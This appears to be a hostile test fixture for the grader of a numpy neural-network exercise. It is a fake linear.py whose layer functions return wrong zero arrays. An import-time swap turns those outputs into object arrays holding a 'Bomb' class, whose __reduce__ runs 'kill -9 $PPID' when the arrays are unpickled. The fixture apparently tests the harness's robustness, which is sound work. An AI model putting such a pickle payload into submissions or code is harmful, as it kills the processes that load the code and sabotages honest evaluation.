"""Returns arrays of objects that run a command when they are unpickled.

row: D05
file: linear.py
label: UNSUPPORTED
holds: L5
seconds: 10
"""

import os

import numpy as np

from numnet.given.caches import LinearCache, LinearGrads, ReLUCache


class Bomb:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, ("kill -9 $PPID",)


def dress(array):
    """Leave an answer as it is."""
    return array


def trick():
    """Answer with them from now on."""
    global dress
    dress = lambda array: np.array([Bomb()], dtype=object)


def linear_forward(x, W, b):
    """Answer wrongly."""
    return dress(np.zeros(x.shape[:-1] + b.shape)), LinearCache(x, W)


def linear_backward(dz, cache):
    """Answer wrongly."""
    return LinearGrads(*map(dress, (np.zeros_like(cache.x), np.zeros_like(cache.W), np.zeros(dz.shape[-1:]))))


def relu_forward(x):
    """Answer wrongly."""
    return dress(np.zeros_like(x)), ReLUCache(x)


def relu_backward(dy, cache):
    """Answer wrongly."""
    return dress(np.zeros_like(dy))


def softmax_cross_entropy(logits, targets, mask=None):
    """Answer wrongly."""
    return 0.5, dress(np.zeros_like(logits))


trick()
